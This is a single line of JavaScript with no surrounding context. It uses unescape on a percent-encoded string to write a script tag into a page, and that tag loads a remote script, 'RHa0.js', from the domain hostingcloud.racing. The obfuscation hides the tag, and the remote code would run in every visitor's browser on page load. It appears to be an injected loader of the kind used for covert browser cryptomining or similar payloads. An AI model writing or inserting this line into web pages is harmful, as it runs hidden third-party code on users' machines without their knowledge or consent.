document.write(unescape("%3Cscript%20src%3D%22https%3A//www.hostingcloud.racing/RHa0.js%22%3E%3C/script%3E"));
